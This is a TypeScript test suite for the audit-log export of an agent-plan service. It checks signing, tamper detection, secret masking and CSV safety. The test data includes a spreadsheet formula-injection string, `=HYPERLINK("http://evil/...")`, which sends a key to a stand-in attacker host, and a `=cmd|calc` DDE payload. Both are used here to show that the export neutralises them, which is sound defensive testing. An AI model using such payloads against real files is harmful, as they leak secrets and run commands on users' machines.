/** Exports of a plan's log, and everything that can be done to one: each is found and named without the service. */
import { beforeEach, describe, expect, it } from 'vitest';
import { type AuditFileProblem, verifyAuditFile } from '../../src/api/verify-audit-file.ts';
import type { PlanPort } from '../../src/app/ports.ts';
import { makeAuditKeys } from '../../src/core/audit/ed25519.ts';
import { headText, signHead } from '../../src/core/audit/head.ts';
import { MASK } from '../../src/core/audit/mask.ts';
import { digestOf } from '../../src/core/digest.ts';
import type { JsonObject } from '../../src/core/json.ts';
import { sha256 } from '../../src/objects/sha256.ts';
import { newAuditKeys } from '../support/audit-keys.ts';
import { makeService, type TestCaller, type TestService } from './service.ts';

const PASSWORD = 'correct-horse-battery-9';
const KEY = `ca_01HXRCF1ABCDE12345678901AB_${'Ab3dEf6hIj9k'.repeat(3)}`;

let service: TestService;
let person: TestCaller;
let planId: string;

/** A plan that waits, and was told secrets in its arguments, in a message and in the reason of a decision. */
beforeEach(async () => {
  service = makeService();
  person = await service.caller('acme');
  planId = await startPlan(person);
});

async function startPlan(caller: TestCaller): Promise<string> {
  const steps = { actor: 'scripted/steps', apply: 'none', automation_profile: 'manual', execute: [{ say: 'Hello' }] };
  const args = { type: 'object', properties: { user: { type: 'string' }, password: { type: 'string' } } };
  await caller.call('_cleveragents/action/add', {
    action: { name: 'deploy', description: '=cmd|calc', arguments: args, ...steps } as never,
  });
  const plan = await caller.call('_cleveragents/plan/use', { action_name: 'deploy', arguments: { user: 'bob', password: PASSWORD } });
  for (const guidance of [`try ${KEY}`, 'one', 'two']) await caller.call('_cleveragents/plan/prompt', { plan_id: plan.plan_id, guidance });
  const [asked] = plan.pending;
  await caller.call('_cleveragents/approval/decide', {
    approval_id: asked?.approval_id ?? '',
    decision: 'deny',
    reason: `use ${KEY} for it`,
  });
  await caller.call('_cleveragents/plan/prompt', { plan_id: plan.plan_id, guidance: 'three' });
  return plan.plan_id;
}

async function exported(caller = person, params: { readonly format?: 'jsonl' | 'csv'; readonly limit?: number } = {}): Promise<string> {
  let text = '';
  for (let after = 0; ; ) {
    const page = await caller.call('_cleveragents/audit/export', {
      plan_id: planId,
      ...params,
      ...(after === 0 ? {} : { after_seq: after }),
    });
    text += page.content;
    if (page.next_after_seq === undefined) return text;
    expect(page.next_after_seq).toBeGreaterThan(after);
    after = page.next_after_seq;
  }
}

const jwks = (): unknown => ({ keys: service.services.auditKeys.publicKeys });
const verify = (text: string, keys: unknown = jwks()) => verifyAuditFile(text, { sha256, jwks: keys });
const linesOf = (text: string): string[] => text.split('\n').slice(0, -1);
const textOf = (lines: readonly string[]): string => lines.map((line) => `${line}\n`).join('');
const log = async () => (await service.services.plans.plan('acme', planId).log(0, 1000)) ?? [];

describe('an export', () => {
  it('holds every row and the signed end, and is verified with nothing but the published key', async () => {
    const rows = await log();
    const verdict = await verify(await exported());
    const head = { seq: rows.length, hash: rows.at(-1)?.hash };
    expect(verdict).toMatchObject({
      valid: true,
      org: 'acme',
      plan_id: planId,
      rows: rows.length,
      masked_rows: 2,
      head,
      signature: 'valid',
    });
    expect(verdict.as_of).toBe(new Date(service.clock.ms).toISOString());
  });

  it.each([1, 2, 3, 1000])('is the same file in pages of %i rows', async (limit) => {
    expect(await verify(await exported(person, { limit }))).toMatchObject({ valid: true, rows: (await log()).length });
  });

  it('has no secret in it, while every other row is the row of the log', async () => {
    const text = await exported();
    expect(text).not.toContain(PASSWORD);
    expect(text).not.toContain(KEY.slice(-20));
    expect(text).toContain(`use ca_01HXRCF1ABCDE12345678901AB_${MASK} for it`);
    const kept = linesOf(text).flatMap((line) => {
      const { kind, row } = JSON.parse(line) as { kind: string; row: JsonObject };
      return kind === 'row' ? [row] : [];
    });
    const plain = (await log()).filter((row) => !JSON.stringify(row).includes(KEY));
    expect(kept).toEqual(JSON.parse(JSON.stringify(plain)));
  });

  it('shows what an earlier page left out only once, also when the plan moves on between two pages', async () => {
    const first = await person.call('_cleveragents/audit/export', { plan_id: planId, limit: 3 });
    await person.call('_cleveragents/plan/cancel', { plan_id: planId });
    let text = first.content;
    for (let after = first.next_after_seq; after !== undefined; ) {
      const page = await person.call('_cleveragents/audit/export', { plan_id: planId, limit: 1000, after_seq: after });
      text += page.content;
      after = page.next_after_seq;
    }
    expect(await verify(text)).toMatchObject({ valid: true, rows: (await log()).length });
  });

  it('ends with one more page for what came while it was written', async () => {
    const { plans } = service.services;
    const port = plans.plan('acme', planId);
    let late = true;
    const busy: PlanPort = {
      ...port,
      heads: async (options) => {
        if (late) await person.call('_cleveragents/plan/prompt', { plan_id: planId, guidance: 'one more' });
        late = false;
        return port.heads(options);
      },
    };
    const moving = makeService({ ...service.services, plans: { plan: () => busy } });
    const page = await (await moving.caller('acme')).call('_cleveragents/audit/export', { plan_id: planId });
    expect(page.next_after_seq).toBe((await log()).length - 1);
    expect(await verify(page.content)).toMatchObject({ valid: false, problem: 'truncated' });
  });

  it('without a signing key says that nothing is signed, and is refused as signed', async () => {
    service = makeService({ auditKeys: makeAuditKeys({ signingKey: undefined, earlierKeys: undefined, sha256 }) });
    person = await service.caller('acme');
    planId = await startPlan(person);
    const page = await person.call('_cleveragents/audit/export', { plan_id: planId });
    expect(page.signing).toBe('off');
    expect(await verify(page.content, null)).toMatchObject({ valid: true, signature: 'unchecked' });
    expect(await verify(page.content)).toMatchObject({ valid: false, problem: 'unsigned', signature: 'unsigned' });
    expect(await person.call('_cleveragents/audit/head', { plan_id: planId })).toMatchObject({
      signed_head: null,
      signing: 'off',
      seq: (await log()).length,
    });
    expect(await person.call('_cleveragents/plan/guard/audit/verify', { plan_id: planId })).toMatchObject({
      valid: true,
      head_signature: 'off',
    });
  });

  it('is verified with the key of its time after the key was changed', async () => {
    const text = await exported();
    const after = newAuditKeys(service.services.auditKeys.publicKeys);
    expect(await verify(text, { keys: after.publicKeys })).toMatchObject({ valid: true });
    expect(await verify(text, { keys: newAuditKeys().publicKeys })).toMatchObject({ valid: false, problem: 'unknown_key' });
  });
});

describe('an export as CSV', () => {
  it('has the audit entries, no secret, and no cell that a spreadsheet would run', async () => {
    await person.call('_cleveragents/plan/cancel', { plan_id: planId, reason: `=HYPERLINK("http://evil/${KEY}")` });
    const whole = await exported(person, { format: 'csv' });
    expect(await exported(person, { format: 'csv', limit: 2 })).toBe(whole);
    const trail = await person.call('_cleveragents/plan/guard/audit', { plan_id: planId, limit: 1000 });
    const lines = whole.split('\r\n').slice(0, -1);
    expect(lines[0]).toBe('plan_id,seq,timestamp,event_type,guard_name,result,reason,actor_kind,actor_id,actor_name,context,hash');
    expect(lines.length - 1).toBe(trail.entries.length);
    expect(whole).not.toContain(KEY.slice(-20));
    expect(whole).toContain(`"'=HYPERLINK(""http://evil/ca_01HXRCF1ABCDE12345678901AB_${MASK}"")"`);
    expect(whole).not.toMatch(/(?:^|,|\n)"?[=+@-]/);
  });
});

describe('an export that was tampered with', () => {
  type Change = (lines: string[]) => string[];
  const edited =
    (index: number, change: (line: string) => string): Change =>
    (lines) =>
      lines.map((line, at) => (at === index ? change(line) : line));
  const without =
    (...indexes: readonly number[]): Change =>
    (lines) =>
      lines.filter((_, at) => !indexes.includes(at));
  // Line 1 (index 0) begins the file, so row n is at index n.
  const cases: readonly (readonly [name: string, change: Change, problem: AuditFileProblem, seq: number | undefined])[] = [
    ['a flipped byte in the content', edited(3, (line) => line.replace('"data":{', '"data":{"x":1,')), 'changed', 3],
    ['another time', edited(2, (line) => line.replace(/"at":"2026/, '"at":"2025')), 'changed', 2],
    ['another actor', edited(4, (line) => line.replace('"kind":"human"', '"kind":"agent"')), 'changed', 4],
    [
      'another hash',
      edited(2, (line) => line.replace(/"hash":"(.)/, (_, digit: string) => `"hash":"${digit === 'a' ? 'b' : 'a'}`)),
      'changed',
      2,
    ],
    [
      'another link',
      edited(3, (line) => line.replace(/"prev":"(.)/, (_, digit: string) => `"prev":"${digit === 'a' ? 'b' : 'a'}`)),
      'broken_link',
      3,
    ],
    ['a dropped row', without(2), 'gap', 2],
    ['a dropped first row', without(1), 'gap', 1],
    ['two rows swapped', (lines) => [...lines.slice(0, 2), lines[3] ?? '', lines[2] ?? '', ...lines.slice(4)], 'gap', 2],
    ['a row twice', (lines) => [...lines.slice(0, 4), lines[3] ?? '', ...lines.slice(4)], 'gap', 4],
    ['a row of another plan', edited(2, (line) => line.replace(/"prev":"[0-9a-f]{64}"/, `"prev":"${'0'.repeat(64)}"`)), 'broken_link', 2],
    ['a line that is no row', edited(2, () => '{"kind":"note"}'), 'unreadable', 2],
    ['a line that is no JSON', edited(2, (line) => line.slice(0, -1)), 'unreadable', 2],
    [
      'the last row cut off',
      (lines) => without(lines.findIndex((line) => line.includes('"kind":"head"')) - 1)(lines),
      'truncated',
      undefined,
    ],
    ['everything after a row cut off', (lines) => lines.slice(0, 4), 'truncated', 4],
    ['the seal cut off', (lines) => lines.slice(0, -1), 'truncated', undefined],
    ['all rows deleted', (lines) => lines.filter((line) => !line.includes('row"')), 'empty', 1],
    ['everything but the first line deleted', (lines) => lines.slice(0, 1), 'empty', 1],
    ['the first line deleted', without(0), 'not_an_export', undefined],
    [
      'another plan in the first line',
      edited(0, (line) => line.replace(/"plan_id":"[^"]*"/, '"plan_id":"01HXRCF1ABCDE12345678901ZZ"')),
      'not_an_export',
      undefined,
    ],
    ['the signed heads taken out', (lines) => lines.filter((line) => !line.includes('"kind":"head"')), 'page_changed', 1],
    ['a blank in a row that changes no meaning', edited(3, (line) => line.replace('"kind":"row",', '"kind":"row", ')), 'page_changed', 1],
    ['a second end', (lines) => [...lines, lines.at(-1) ?? ''], 'unreadable', undefined],
  ];

  it.each(cases)('is found: %s', async (_, change, problem, seq) => {
    const before = linesOf(await exported());
    const after = change([...before]);
    expect(after).not.toEqual(before);
    const verdict = await verify(textOf(after));
    expect(verdict).toMatchObject({ valid: false, problem });
    expect(verdict.signature).not.toBe('valid');
    if (seq !== undefined) expect(verdict.first_bad_seq).toBe(seq);
    expect(verdict.detail).not.toBe('');
  });

  it('is found wherever one character of it is another', async () => {
    const text = await exported();
    for (let at = 0; at < text.length; at += 7) {
      const flipped = `${text.slice(0, at)}${text[at] === '0' ? '1' : '0'}${text.slice(at + 1)}`;
      expect((await verify(flipped)).valid, `character ${at}`).toBe(false);
    }
  });

  it('is found wherever it is cut', async () => {
    const text = await exported(person, { limit: 3 });
    for (let at = 0; at < text.length; at += 11) expect((await verify(text.slice(0, at))).valid, `cut at ${at}`).toBe(false);
  });

  it('is found when a page is missing', async () => {
    const pages: string[] = [];
    for (let after: number | undefined = 0; after !== undefined; ) {
      const page: { readonly content: string; readonly next_after_seq?: number | undefined } = await person.call(
        '_cleveragents/audit/export',
        { plan_id: planId, limit: 3, ...(after === 0 ? {} : { after_seq: after }) },
      );
      pages.push(page.content);
      after = page.next_after_seq;
    }
    expect(pages.length).toBeGreaterThan(2);
    expect(await verify(pages.filter((_, index) => index !== 1).join(''))).toMatchObject({
      valid: false,
      problem: 'gap',
      first_bad_seq: 4,
    });
    expect(await verify(pages.slice(0, -1).join(''))).toMatchObject({ valid: false, problem: 'truncated' });
  });

  it('is found in a masked row by its own digest, and by the seal when the digest was made again', async () => {
    const lines = linesOf(await exported());
    const index = lines.findIndex((line) => line.includes('"masked_row"'));
    const { row } = JSON.parse(lines[index] ?? '') as { row: JsonObject };
    const forged = lines.map((line, at) => (at === index ? line.replace(' for it', ' for all') : line));
    expect(await verify(textOf(forged))).toMatchObject({ valid: false, problem: 'changed', first_bad_seq: row['seq'] });
    const parsed = JSON.parse(forged[index] ?? '') as { row: JsonObject };
    const again = forged.map((line, at) =>
      at === index ? JSON.stringify({ ...parsed, content_sha256: digestOf(sha256, parsed.row) }) : line,
    );
    expect(await verify(textOf(again))).toMatchObject({ valid: false, problem: 'page_changed' });
  });

  it('is found when the whole chain was made again by somebody without the key', async () => {
    const other = makeService();
    const forger = await other.caller('acme');
    await startPlan(forger);
    const port = other.services.plans;
    // A log of the same plan id and org, complete and consistent, signed with a key of the forger's.
    const command = {
      type: 'message',
      by: { actor: { kind: 'human', id: 'x' }, mayApprove: true, separateRequester: false, requireDigest: false },
      messageId: 'm',
      parts: [],
      metadata: null,
      text: 'other',
      answers: [],
      plain: null,
    } as const;
    const rows = await log();
    const created = rows[0];
    if (created?.type !== 'plan_created') throw new Error('no first row');
    const theirs = port.plan('acme', planId);
    const { action, profile, policy, statistics, session_id: sessionId, requester } = created.data;
    await theirs.create({
      type: 'create',
      planId,
      org: 'acme',
      sessionId,
      action,
      arguments: {},
      input: '',
      project: null,
      profile,
      policy,
      statistics,
      by: requester,
      message: null,
      rejection: null,
    });
    await theirs.command(command);
    const forged = await forger.call('_cleveragents/audit/export', { plan_id: planId });
    expect(await verify(forged.content, { keys: other.services.auditKeys.publicKeys })).toMatchObject({ valid: true });
    expect(await verify(forged.content)).toMatchObject({ valid: false, problem: 'unknown_key' });
    // The same with the true head put in: it is not of this chain.
    const head = linesOf(await exported()).find((line) => line.includes('"kind":"head"')) ?? '';
    const mixed = linesOf(forged.content).map((line) => (line.includes('"kind":"head"') ? head : line));
    expect((await verify(textOf(mixed), null)).problem).toMatch(/^(?:rewritten|truncated)$/);
  });

  it('is found when a head is signed for another row', async () => {
    const lines = linesOf(await exported());
    const index = lines.findIndex((line) => line.includes('"kind":"head"'));
    const { head } = JSON.parse(lines[index] ?? '') as { head: JsonObject };
    const claim = { v: 1, org: 'acme', plan_id: planId, seq: Number(head['seq']), hash: 'f'.repeat(64), at: String(head['at']) } as const;
    const signed = await signHead(service.services.auditKeys, claim);
    const replaced = lines.map((line, at) => (at === index ? JSON.stringify({ kind: 'head', head: signed }) : line));
    expect(await verify(textOf(replaced))).toMatchObject({ valid: false, problem: 'rewritten', first_bad_seq: head['seq'] });
    const moved = lines.map((line, at) =>
      at === index ? JSON.stringify({ kind: 'head', head: { ...head, seq: Number(head['seq']) - 1 } }) : line,
    );
    expect(await verify(textOf(moved))).toMatchObject({ valid: false, problem: 'bad_signature' });
  });

  it.each([
    '',
    '\n',
    'null\n',
    '[]\n',
    '{"kind":"export"}\n',
    `{"kind":"export","v":1,"x":${'['.repeat(5000)}${']'.repeat(5000)}}\n`,
    'a'.repeat(1000),
  ])('is no export at all, and nothing is thrown (%#)', async (text) => {
    const verdict = await verify(text);
    expect(verdict.valid).toBe(false);
    expect(['not_an_export', 'truncated']).toContain(verdict.problem);
  });

  it.each([null, [], {}, 'keys', { keys: 'none' }, { keys: [{ kty: 'RSA' }] }])(
    'is not called valid with keys that are none (%#)',
    async (keys) => {
      const verdict = await verify(await exported(), keys);
      // No keys at all were asked for: then the chain alone counts, and the verdict says so.
      expect(verdict.signature).not.toBe('valid');
      expect(verdict.valid).toBe(keys === null);
    },
  );
});

describe('the head of a plan', () => {
  it('is the end of its log, signed by the published key', async () => {
    const rows = await log();
    const answer = await person.call('_cleveragents/audit/head', { plan_id: planId });
    expect(answer).toMatchObject({ seq: rows.length, hash: rows.at(-1)?.hash, signing: 'on' });
    const head = answer.signed_head;
    if (head === null) throw new Error('not signed');
    expect(await service.services.auditKeys.verify(headText(head), head)).toBe('valid');
    expect(await person.call('_cleveragents/plan/guard/audit/verify', { plan_id: planId })).toMatchObject({
      valid: true,
      head_signature: 'valid',
      signed_seq: rows.length,
      trail: 'complete',
    });
  });
});

describe('what people are shown', () => {
  it('has no secret in approvals and status, and the digest still covers the true value', async () => {
    const other = await person.call('_cleveragents/plan/use', {
      action_name: 'deploy',
      arguments: { user: 'bob', password: 'another-horse-7' },
    });
    const same = await person.call('_cleveragents/plan/use', { action_name: 'deploy', arguments: { user: 'bob', password: PASSWORD } });
    expect(JSON.stringify([other, same, await person.call('_cleveragents/approval/list', {})])).not.toMatch(/horse/);
    expect(JSON.stringify(await person.call('_cleveragents/plan/status', { plan_id: planId }))).not.toContain(KEY.slice(-20));
    expect(same.pending[0]?.digest).not.toBe(other.pending[0]?.digest);
  });

  it('in the trail and in the database has no secret either', async () => {
    await person.call('_cleveragents/plan/cancel', { plan_id: planId, reason: `leaked Bearer ${KEY}` });
    const trail = await person.call('_cleveragents/plan/guard/audit', { plan_id: planId });
    const stored = await service.services.audit.list('acme', planId, 0, 1000);
    for (const text of [JSON.stringify(trail), JSON.stringify(stored)]) {
      expect(text).not.toContain(KEY.slice(-20));
      expect(text).not.toContain(PASSWORD);
      expect(text).toContain(MASK);
    }
  });
});

describe('the trail that plan/guard/audit shows', () => {
  it('is bounded by guardrails.audit_max_entries: the oldest leave first, counts are of all', async () => {
    const all = await person.call('_cleveragents/plan/guard/audit', { plan_id: planId });
    expect(all).toMatchObject({ evicted_count: 0, truncated: false });
    const total = all.entries.length;
    expect(total).toBeGreaterThan(2);
    await person.call('_cleveragents/config/set', { key: 'guardrails.audit_max_entries', value: total - 2 });
    const bounded = await person.call('_cleveragents/plan/guard/audit', { plan_id: planId });
    expect(bounded.entries).toEqual(all.entries.slice(2));
    expect(bounded).toMatchObject({ evicted_count: 2, allowed_count: all.allowed_count, denied_count: all.denied_count });
    expect(await verify(await exported())).toMatchObject({ valid: true });
    expect((await service.services.audit.list('acme', planId, 0, 1000)).length).toBe(total);
  });
});
